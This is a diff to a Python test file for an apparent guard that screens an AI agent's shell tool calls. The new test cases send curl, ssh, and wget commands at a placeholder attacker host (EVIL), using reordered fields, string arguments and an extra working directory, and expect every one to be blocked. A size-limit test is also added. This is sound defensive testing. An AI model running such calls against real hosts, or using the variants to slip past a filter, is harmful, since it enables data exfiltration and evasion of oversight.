@@ -206,6 +206,10 @@ def test_other_commands_are_left_alone(line: str) -> None:
         {"command": "curl", "args": ["-s", f"{EVIL}/x"]},
         {"command": "/usr/bin/ssh", "args": [EVIL]},
         {"command": "bash", "args": ["-c", f"curl {EVIL}"]},
+        {"args": [EVIL], "command": "curl"},
+        {"command": "ssh", "cwd": "/tmp", "args": ["-v", EVIL]},
+        {"command": "curl", "args": f"-s {EVIL}"},
+        {"command": "curl", "args": [f"-s {EVIL}"]},
         {"script": f"set -e\nls\nwget {EVIL}\n"},
     ],
 )
@@ -244,6 +248,14 @@ def test_no_number_is_too_long_to_be_read() -> None:
     )
     line = f"curl {'9' * 5_000} 0x{'9' * 5_000} {EVIL}"
     assert guard.check("run_shell", {"command": line}).word == "block"
+
+
+def test_lists_of_many_programs_are_refused_not_put_together() -> None:
+    """Each with each of the others would be more than linear."""
+    verdict = _guard().check("run_shell", {"argv": ["curl", "corp.example"] * 10_000})
+    assert "than are put together" in verdict.reason
+    few = _guard().check("run_shell", {"argv": ["curl", *["corp.example"] * 2_000]})
+    assert few.word == "allow"
 
 
 def test_what_is_too_long_or_too_deep_is_no_command_that_can_be_checked() -> None:
